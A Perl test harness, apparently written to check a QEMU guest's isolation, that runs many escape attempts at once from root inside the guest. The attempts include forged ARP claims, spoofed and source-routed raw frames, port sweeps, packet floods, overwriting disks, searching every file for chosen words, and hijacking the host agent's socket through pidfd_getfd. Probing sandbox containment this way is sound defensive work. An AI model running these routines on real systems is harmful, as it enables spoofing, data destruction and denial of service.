# Makes attempts to get out of a machine, all at once, each in a process of its own: in a guest as its root, and outside.
#
#     perl attack.pl SECONDS <ATTEMPTS
#
# ATTEMPTS are lines of a name, a kind and its arguments, with a tab between. Of each attempt it prints the name and
# what came of it: `reached` and what, `nothing` after SECONDS, or why not. Modules of perl-base alone.
use strict;
use warnings;
use Errno qw(EINPROGRESS);
use Fcntl qw(O_RDWR O_NONBLOCK F_GETFL F_SETFL);
use POSIX ();
use Socket qw(:DEFAULT :addrinfo inet_pton inet_ntop pack_sockaddr_in6 IPPROTO_TCP IPPROTO_IP IPPROTO_IPV6);

use constant { PACKET => 17, ALL => 0x0003, OUTGOING => 4 };
use constant { OURS => "\x52\x54\x00\x00\x02\x15", EVERYBODY => "\xff" x 6 };
my ($guest, $host) = map { inet_aton($_) } '10.0.2.15', '10.0.2.2';
my $seconds = shift @ARGV;
$| = 1;

my %kinds = (
    tcp => \&tcp, udp => \&udp, dns => \&dns, dnstcp => \&dns_tcp, resolve => \&resolve, dhcp => \&dhcp,
    icmp => \&icmp, syn => \&syn, proto => \&protocol, ether => \&ether, arp => \&arp, igmp => \&igmp, icmp6 => \&icmp6,
    sweep => \&sweep, beacon => \&beacon, claim => \&claim, unix => \&unix, read => \&read_file, write => \&write_disk,
    vsock => \&vsock, name => \&by_name, ports => \&ports, mount => \&mount_tag, grep => \&grep_all, lie => \&lie,
    steal => \&steal, clock => \&clock, memory => \&memory, console => \&console, flood => \&flood,
);

my %named;    # by process
my @told;
while (my $line = <STDIN>) {
    chomp $line;
    my ($name, $kind, @arguments) = split /\t/, $line;
    pipe my $reading, my $writing or die "pipe: $!";
    my $pid = fork // die "fork: $!";
    if (!$pid) {
        close $reading;
        alarm $seconds;    # ends the process, which has then told nothing
        my $said = eval { $kinds{$kind}->(@arguments) } // ($@ =~ s/ at \S+ line.*//sr);
        syswrite $writing, $said;
        POSIX::_exit(0);
    }
    close $writing;
    push @told, [$name, $reading, $pid];
}
for (@told) {
    my ($name, $reading, $pid) = @$_;
    local $/;
    my $said = <$reading> // '';
    waitpid $pid, 0;
    $said = $? && ($? & 127) != 14 ? "signal " . ($? & 127) : 'nothing' if $said eq '';
    $said =~ s/[^\x20-\x7e]/./g;
    print "$name\t", substr($said, 0, 4000), "\n";
}

# --- sockets

sub address {
    my ($text, $port) = @_;
    return (AF_INET, pack_sockaddr_in($port, inet_aton($text))) if $text !~ /:/;
    my ($plain, $zone) = split /%/, $text;
    my $scope = $zone ? index_of($zone) : 0;
    return (AF_INET6, pack_sockaddr_in6($port, inet_pton(AF_INET6, $plain), $scope, 0));
}

# A connection counts where somebody speaks: a guest's own forwarder takes every one.
sub tcp {
    my ($to, $port) = @_;
    my ($family, $address) = address($to, $port);
    socket my $socket, $family, SOCK_STREAM, 0 or die "socket: $!";
    connect $socket, $address or die "connect: $!";
    syswrite $socket, "attempt\n";
    my $got = sysread $socket, my $said, 100;
    die 'read: ', defined $got ? 'end' : $! unless $got;
    return "reached $said";
}

sub by_name {
    my ($name, $port) = @_;
    my ($error, @found) = getaddrinfo($name, $port, { socktype => SOCK_STREAM });
    die "name: $error" if $error;
    for my $one (@found) {
        socket my $socket, $one->{family}, SOCK_STREAM, 0 or next;
        connect $socket, $one->{addr} or next;
        my $got = sysread $socket, my $said, 100;
        return "reached $said" if $got;
    }
    die 'connect: to none';
}

sub udp {
    my ($to, $port, $payload) = @_;
    my ($family, $address) = address($to, $port);
    socket my $socket, $family, SOCK_DGRAM, 0 or die "socket: $!";
    setsockopt $socket, SOL_SOCKET, SO_BROADCAST, 1;
    setsockopt $socket, IPPROTO_IP, 32, $guest if $family == AF_INET;    # IP_MULTICAST_IF
    setsockopt $socket, IPPROTO_IPV6, 17, pack 'i', index_of('eth0') if $family == AF_INET6;
    $payload //= 'attempt';
    while (1) {
        send $socket, $payload, 0, $address or die "send: $!";
        my $ready = '';
        vec($ready, fileno $socket, 1) = 1;
        next unless select $ready, undef, undef, 0.7;
        defined recv $socket, my $said, 2000, 0 or die "recv: $!";
        return "reached $said";
    }
}

sub question { return pack('n6', $$ & 0xffff, 0x0100, 1, 0, 0, 0) . "\7example\3org\0" . pack('nn', 1, 1) }
sub dns { return udp($_[0], $_[1] // 53, question()) }

sub dns_tcp {
    my ($to) = @_;
    my ($family, $address) = address($to, 53);
    socket my $socket, $family, SOCK_STREAM, 0 or die "socket: $!";
    connect $socket, $address or die "connect: $!";
    syswrite $socket, pack('n', length question()) . question();
    sysread $socket, my $said, 2000 or die 'read: end';
    return "reached $said";
}

# As a program does that knows nothing of all this, after its machine's settings were edited.
sub resolve {
    my @servers = @_;
    open my $file, '>', '/etc/resolv.conf' or die "resolv.conf: $!";
    print $file map { "nameserver $_\n" } @servers;
    print $file "options timeout:1 attempts:30\n";
    close $file;
    my ($error, @found) = getaddrinfo('example.org', 80, { family => AF_INET, socktype => SOCK_STREAM });
    die "name: $error" if $error;
    return 'reached ' . join ' ', map { inet_ntoa((unpack_sockaddr_in($_->{addr}))[1]) } @found;
}

sub unix {
    my $path = $_[0] =~ s/^@/\0/r;    # an abstract one
    socket my $socket, PF_UNIX, SOCK_STREAM, 0 or die "socket: $!";
    connect $socket, pack_sockaddr_un($path) or die "connect: $!";
    return 'reached';
}

# There are modules for it: whether there is a host behind it is what they find.
sub vsock {
    my ($cid) = @_;
    my $port = 4711 + $cid;    # attempts are made at once
    socket my $socket, 40, SOCK_STREAM, 0 or die "socket: $!";
    socket my $other, 40, SOCK_STREAM, 0 or die "socket: $!";
    bind $other, pack 'S S L L L', 40, 0, $port, 0xffffffff, 0 or die "bind: $!";
    listen $other, 1 or die "listen: $!";
    connect $socket, pack 'S S L L L', 40, 0, $port, $cid, 0 or die "connect: $!";
    return 'reached';
}

# --- frames

sub index_of {
    my ($name) = @_;
    open my $file, '<', "/sys/class/net/$name/ifindex" or die "no interface $name";
    return <$file> + 0;
}

sub wire {
    socket my $socket, PACKET, SOCK_RAW, unpack 'S', pack 'n', ALL or die "packet: $!";
    bind $socket, pack 'S n i S C C a8', PACKET, ALL, index_of('eth0'), 0, 0, 0, '' or die "bind: $!";
    # What is for others, too: QEMU passes on to a card what it asks for (PACKET_ADD_MEMBERSHIP, all).
    setsockopt $socket, 263, 1, pack 'i S S a8', index_of('eth0'), 1, 0, '' or die "promiscuous: $!";
    return $socket;
}

# Sends frames until one comes that is looked for, from somebody else.
sub exchange {
    my ($wanted, @frames) = @_;
    my $wire = wire();
    while (1) {
        for (@frames) { syswrite $wire, $_ or die "send: $!" }
        for (1 .. 400) {
            my $ready = '';
            vec($ready, fileno $wire, 1) = 1;
            select $ready, undef, undef, 0.7 or last;
            my $from = recv $wire, my $frame, 2000, 0 or next;
            next if unpack('x10 C', $from) == OUTGOING;
            my $found = $wanted->($frame);
            return "reached $found" if $found;
        }
    }
}

sub sum {
    my ($data) = @_;
    my $sum = 0;
    $sum += $_ for unpack 'n*', length($data) % 2 ? "$data\0" : $data;
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}

sub host_mac {
    open my $file, '<', '/proc/net/arp' or return EVERYBODY;
    /^10\.0\.2\.2 .*?((?:[0-9a-f]{2}:){5}[0-9a-f]{2})/ and return pack 'H12', $1 =~ s/://gr for <$file>;
    return EVERYBODY;
}

sub ethernet { my ($type, $data, $from, $to) = @_; return ($to // host_mac()) . ($from // OURS) . pack('n', $type) . $data }

sub ip {
    my ($protocol, $from, $to, $data, %how) = @_;
    my $options = $how{options} // '';
    my $words = 5 + length($options) / 4;
    my @head = ('CCnnnCCna4a4', 0x40 | $words, 0, $words * 4 + length $data, $how{id} // $$ & 0xffff, $how{part} // 0, $how{ttl} // 64, $protocol);
    my $format = shift @head;
    my $sum = sum(pack($format, @head, 0, $from, $to) . $options);
    return pack($format, @head, $sum, $from, $to) . $options . $data;
}

sub segment {
    my ($from, $to, $source, $port, $flags) = @_;
    my @parts = ($source, $port, 1, 0, 0x50, $flags, 64240);
    my $data = pack 'nnNNCCnnn', @parts, 0, 0;
    return pack 'nnNNCCnnn', @parts, sum(pack('a4a4CCn', $from, $to, 0, 6, length $data) . $data), 0;
}

# Gives what an IPv4 frame says of itself: protocol, sender, receiver, and what it carries.
sub parts {
    my ($frame) = @_;
    return (0, '', '', '') if length $frame < 34 || unpack('x12 n', $frame) != 0x0800;
    my ($words, $protocol, $from, $to) = unpack 'x14 C x8 C x2 a4 a4', $frame;
    return ($protocol, $from, $to, substr $frame, 14 + 4 * ($words & 15));
}

sub syn {
    my ($to, $port, %how) = @_;
    my $target = inet_aton($to);
    my $source = 20000 + $$ % 20000;
    my $from = $how{from} ? inet_aton($how{from}) : $guest;
    my $data = segment($from, $target, $source, $port, hex($how{flags} // '02'));
    my $mac = $how{mac} ? pack 'H12', $how{mac} : undef;
    my @frames;
    if ($how{fragments}) {
        my $count = 0;
        @frames = map { ethernet(0x0800, ip(6, $from, $target, substr($data, 8 * $_, 8), part => $_ | ($_ < 2 ? 0x2000 : 0))) } 0 .. 2;
    } else {
        my $route = $how{via} ? pack('CCC', 0x83, 7, 4) . $target . "\0" : '';    # loose source route
        my $first = $how{via} ? inet_aton($how{via}) : $target;
        my $packet = ip(6, $from, $first, $data, options => $route);
        my $type = 0x0800;
        ($type, $packet) = (0x8100, pack('nn', $how{vlan}, 0x0800) . $packet) if defined $how{vlan};
        @frames = (ethernet($type, $packet, $mac, $how{everybody} ? EVERYBODY : undef));
    }
    return exchange(sub {
        my ($frame) = @_;
        # Somebody who wants to answer asks for an address first.
        my ($type, $what, $asked) = unpack 'x12 n x6 n x16 a4', $frame . "\0" x 60;
        return "who has $how{from}" if $how{from} && $type == 0x0806 && $asked eq $from;
        my ($protocol, $sender, undef, $rest) = parts($frame);
        return if $protocol != 6 || $sender ne $target && $sender ne $host;
        my ($there, $here) = unpack 'nn', $rest;
        return $here == $source && $there == $port && 'an answer';
    }, @frames);
}

sub protocol {
    my ($to, $number) = @_;
    my $target = inet_aton($to);
    return exchange(sub {
        my ($protocol, $sender, undef, $rest) = parts($_[0]);
        # The whole of what it complains of begins after eight bytes.
        return $protocol == 1 && $sender eq $target && unpack('C', $rest) == 3 && unpack('x17 C', $rest . "\0" x 40) == $number && 'a complaint';
    }, ethernet(0x0800, ip($number, $guest, $target, "\0" x 24)));
}

sub icmp {
    my ($to, $type, $answer) = @_;
    my $target = inet_aton($to);
    my $data = pack 'CCnnn a32', $type, 0, 0, $$ & 0xffff, 1, '';
    substr($data, 2, 2) = pack 'n', sum($data);
    return exchange(sub {
        my ($protocol, $sender, undef, $rest) = parts($_[0]);
        my ($kind, $number) = unpack 'C x3 n', $rest . "\0" x 8;
        return $protocol == 1 && $kind == $answer && $number == ($$ & 0xffff) && 'an answer';
    }, ethernet(0x0800, ip(1, $guest, $target, $data)));
}

sub icmp6 {
    my ($to, $type, $answer, $body) = @_;
    my ($from, $target) = map { inet_pton(AF_INET6, $_) } 'fe80::5054:ff:fe00:215', $to;
    my $data = pack('CCn', $type, 0, 0) . pack 'H*', $body;
    substr($data, 2, 2) = pack 'n', sum($from . $target . pack('NN', length $data, 58) . $data);
    my $packet = pack('NnCC', 0x60000000, length $data, 58, 255) . $from . $target . $data;
    return exchange(sub {
        my ($kind, $next, $sender, $said) = unpack 'x12 n x6 C x a16 x16 C', $_[0] . "\0" x 60;
        return $kind == 0x86dd && $next == 58 && $sender ne $from && $said == $answer && 'an answer';
    }, ethernet(0x86dd, $packet, OURS, "\x33\x33" . substr $target, 12));
}

sub igmp {
    my $data = pack 'CCn a4', 0x11, 10, 0, "\0" x 4;
    substr($data, 2, 2) = pack 'n', sum($data);
    my $packet = ip(2, $guest, inet_aton('224.0.0.1'), $data, ttl => 1, options => "\x94\x04\0\0");
    return exchange(sub {
        my ($protocol, undef, undef, $rest) = parts($_[0]);
        return $protocol == 2 && unpack('C', $rest) != 0x11 && 'a report';
    }, ethernet(0x0800, $packet, OURS, "\x01\x00\x5e\x00\x00\x01"));
}

sub arp_frame {
    my ($what, $mac, $from, $to, $target) = @_;
    return ethernet(0x0806, pack('nnCCn', 1, 0x0800, 6, 4, $what) . $mac . $from . "\0" x 6 . $to, $mac, $target // EVERYBODY);
}

sub arp {
    my ($to) = @_;
    my $target = inet_aton($to);
    return exchange(sub {
        my ($type, $what, $mac, $sender) = unpack 'x12 n x6 n a6 a4', $_[0] . "\0" x 60;
        return $type == 0x0806 && $what == 2 && $sender eq $target && unpack 'H12', $mac;
    }, arp_frame(1, OURS, $guest, $target));
}

# Says that addresses are here, with another card: to everybody, unasked, as a question and as an answer.
sub claim {
    my ($mac, @addresses) = @_;
    my $wire = wire();
    my $card = pack 'H12', $mac;
    for my $address (map { inet_aton($_) } @addresses) {
        for my $what (1, 2) {
            syswrite $wire, arp_frame($what, $card, $address, $_, $what == 2 ? host_mac() : undef) or die "send: $!"
                for $address, $host;
        }
    }
    return 'reached: sent';
}

sub ether {
    my ($type) = @_;
    my $marked = "escape $type";
    return exchange(sub {
        my ($kind, $rest) = unpack 'x12 n a*', $_[0];
        return $kind == hex($type) && index($rest, $marked) >= 0 && 'an answer';
    }, map { ethernet(hex $type, $marked . "\0" x 40, OURS, $_) } host_mac(), EVERYBODY);
}

sub dhcp {
    my $body = pack 'CCCCNnn a16 a16 a192 a4 C3 C', 1, 1, 6, 0, $$, 0, 0x8000, '', OURS, '', "\x63\x82\x53\x63", 53, 1, 1, 255;
    my $data = pack('nnnn', 68, 67, 8 + length $body, 0) . $body;
    return exchange(sub {
        my ($protocol, undef, undef, $rest) = parts($_[0]);
        return $protocol == 17 && unpack('n', $rest) == 67 && 'an offer';
    }, ethernet(0x0800, ip(17, "\0" x 4, "\xff" x 4, $data), OURS, EVERYBODY));
}

# Knocks at every port, as fast as it can, and tells who answers: with a yes or a no, or with a yes alone.
sub sweep {
    my ($to, $first, $last, $yes) = @_;
    my $target = inet_aton($to);
    my $wire = wire();
    fcntl $wire, F_SETFL, O_NONBLOCK;
    my ($mac, %heard) = (host_mac());
    my $head = ethernet(0x0800, ip(6, $guest, $target, "\0" x 20), OURS, $mac);
    substr($head, 34) = '';
    my $pseudo = pack 'a4a4CCn', $guest, $target, 0, 6, 20;
    my $listen = sub {
        while (my $from = recv $wire, my $frame, 2000, 0) {
            next if unpack('x10 C', $from) == OUTGOING;
            my ($protocol, $sender, undef, $rest) = parts($frame);
            my ($there, $here, $flags) = unpack 'nn x9 C', $rest . "\0" x 14;
            $heard{$there} = 1 if $protocol == 6 && $sender eq $target && $here == 4711 && (!$yes || $flags & 2);
        }
    };
    # The sum of a segment goes down by what its port goes up.
    my $base = ~sum($pseudo . pack 'nnNNCCnnn', 4711, 0, 1, 0, 0x50, 2, 64240, 0, 0) & 0xffff;
    for my $port ($first .. $last) {
        my $sum = $base + $port;
        $sum = ($sum & 0xffff) + ($sum >> 16);
        my $frame = $head . pack 'nnNNCCnnn', 4711, $port, 1, 0, 0x50, 2, 64240, ~$sum & 0xffff, 0;
        until (syswrite $wire, $frame) { select undef, undef, undef, 0.01 }
        $listen->() unless $port % 64;
    }
    for (1 .. 10) { select undef, undef, undef, 0.1; $listen->() }
    my @heard = sort { $a <=> $b } keys %heard;
    return 'reached ' . @heard . ': ' . join ' ', @heard[0 .. ($#heard < 20 ? $#heard : 20)];
}

# Sends frames that somebody looks for elsewhere.
sub beacon {
    my ($mark, $count) = @_;
    my $wire = wire();
    for (1 .. $count) {
        my $udp = pack('nnnn', 4711, 4711, 8 + length $mark, 0) . $mark;
        for my $to (EVERYBODY, OURS, "\x01\x00\x5e\x00\x00\xfb", "\x33\x33\x00\x00\x00\x01", host_mac()) {
            syswrite $wire, $_ or die "send: $!" for ethernet(0x88b5, $mark . "\0" x 40, OURS, $to),
                map { ethernet(0x0800, ip(17, $guest, inet_aton($_), $udp), OURS, $to) } '10.0.2.15', '10.0.2.16', '255.255.255.255', '224.0.0.251';
        }
    }
    return 'reached: sent';
}

sub flood {
    my ($count) = @_;
    my $wire = wire();
    my $frame = ethernet(0x0800, ip(17, $guest, $host, "\0" x 1400));
    my $sent = 0;
    for (1 .. $count) { syswrite $wire, $frame and $sent++ or select undef, undef, undef, 0.01 }
    return "reached: sent $sent";
}

# --- the machine

sub read_file {
    my ($path) = @_;
    open my $file, '<', $path or die "open: $!";
    sysread $file, my $said, 4000 or die "read: $!";
    return "reached $said";
}

# Writes over a disk, after asking the kernel to let it.
sub write_disk {
    my ($path, $place, $mark) = @_;
    if (open my $asked, '<', $path) { ioctl $asked, 0x125d, my $off = pack 'i', 0 }    # BLKROSET
    sysopen my $disk, $path, O_RDWR or die "open: $!";
    sysseek $disk, $place eq 'end' ? sysseek $disk, 0, 2 : $place, 0 or die "seek: $!";
    my $put = syswrite $disk, $mark . "\0" x (512 - length $mark) or die "write: $!";
    syscall(74, fileno $disk) == 0 or die "fsync: $!";
    return "reached $put";
}

sub mount_tag {
    my ($kind, $source) = @_;
    my ($place, $how) = ("/tmp/$kind.$$", $kind eq '9p' ? 'trans=virtio' : '');
    mkdir $place;
    syscall(165, $source, $place, $kind, 0, $how) == 0 or die "mount: $!";
    return 'reached';
}

# Goes by I/O ports, past every driver: the program takes orders of four bytes each, and writes what it reads there.
sub ports {
    my ($program, $orders) = @_;
    my $file = "/tmp/orders.$$";
    open my $written, '>', $file or die "orders: $!";
    print $written pack 'H*', $orders;
    close $written;
    my $said = qx{$program <$file};
    die 'ended with ' . ($? & 127 ? 'signal ' . ($? & 127) : $? >> 8) if $?;
    return 'reached ' . unpack 'H*', $said;
}

# Looks for words in everything that can be read below folders; tells the files of each, in the order of the words.
sub grep_all {
    my ($words, @folders) = @_;
    my @words = split /,/, $words;
    my (%found, %seen);
    while (defined(my $path = shift @folders)) {
        next if -l $path;
        if (-d _) {
            next if $seen{ join ':', (stat _)[0, 1] }++;
            opendir my $folder, $path or next;
            push @folders, map { "$path/$_" } grep { !/^\.\.?$/ } readdir $folder;
        } elsif (-f _ || -b _) {
            open my $file, '<', $path or next;
            fcntl $file, F_SETFL, O_NONBLOCK;
            my ($kept, $piece) = ('', '');
            while (sysread $file, $piece, 1 << 20) {
                $kept .= $piece;
                for (@words) { $found{$_}{$path} = 1 if index($kept, $_) >= 0 }
                $kept = substr $kept, -100;
            }
        }
    }
    return 'reached ' . join '; ', map { join ' ', sort keys %{ $found{$_} } } @words;
}

# Speaks to the host as an agent would, in connections of its own one after the other, and says what it was given to say:
# at once, when it has its first order, and whether that once or for ever.
sub lie {
    my ($port, @lies) = @_;
    $SIG{PIPE} = 'IGNORE';
    my @came;
    while (my ($first, $then, $how) = splice @lies, 0, 3) {
        my (undef, $address) = address('10.0.2.2', $port);
        socket my $socket, AF_INET, SOCK_STREAM, 0 or die "socket: $!";
        connect $socket, $address or die "connect: $!";
        syswrite $socket, "agent\n" . pack 'H*', $first;
        my ($order, $said, $said_all) = ('', pack('H*', $then), 0);
        if (length $said && sysread $socket, $order, 1 << 16) {
            do { $said_all = syswrite $socket, $said } while $said_all && $how eq 'for ever';
        }
        shutdown $socket, 1 if $how eq 'and ends';
        1 while sysread $socket, $order, 1 << 16;
        push @came, 'cut off';
    }
    return join ' ', @came;
}

# Takes the agent's own connection from the first process, which root of a machine may, and speaks in it.
sub steal {
    my ($said) = @_;
    my $first = syscall 434, 1, 0;    # pidfd_open
    die "pidfd_open: $!" if $first < 0;
    for my $number (3 .. 20) {
        my $taken = syscall 438, $first, $number, 0;    # pidfd_getfd
        next if $taken < 0;
        next unless readlink("/proc/self/fd/$taken") =~ /^socket:/;
        open my $socket, '+<&=', $taken or next;
        return 'reached' if syswrite $socket, pack 'H*', $said;
    }
    die "pidfd_getfd: $!";
}

sub clock {
    my ($to) = @_;
    syscall(164, pack('qq', $to, 0), 0) == 0 or die "settimeofday: $!";
    open my $clock, '<', '/dev/rtc0' or die "rtc: $!";
    my @now = gmtime $to;
    ioctl $clock, 0x4024700a, my $set = pack 'i9', @now[0 .. 5], 0, 0, 0 or die "rtc: $!";    # RTC_SET_TIME
    return 'reached ' . time;
}

sub memory {
    my @kept;
    push @kept, 'x' x (1 << 20) while 1;
}

sub console {
    my ($count) = @_;
    open my $console, '>', '/dev/ttyS0' or die "ttyS0: $!";
    for (1 .. $count) { syswrite $console, 'x' x 1023 . "\n" or die "write: $!" }
    return "reached: $count KiB";
}
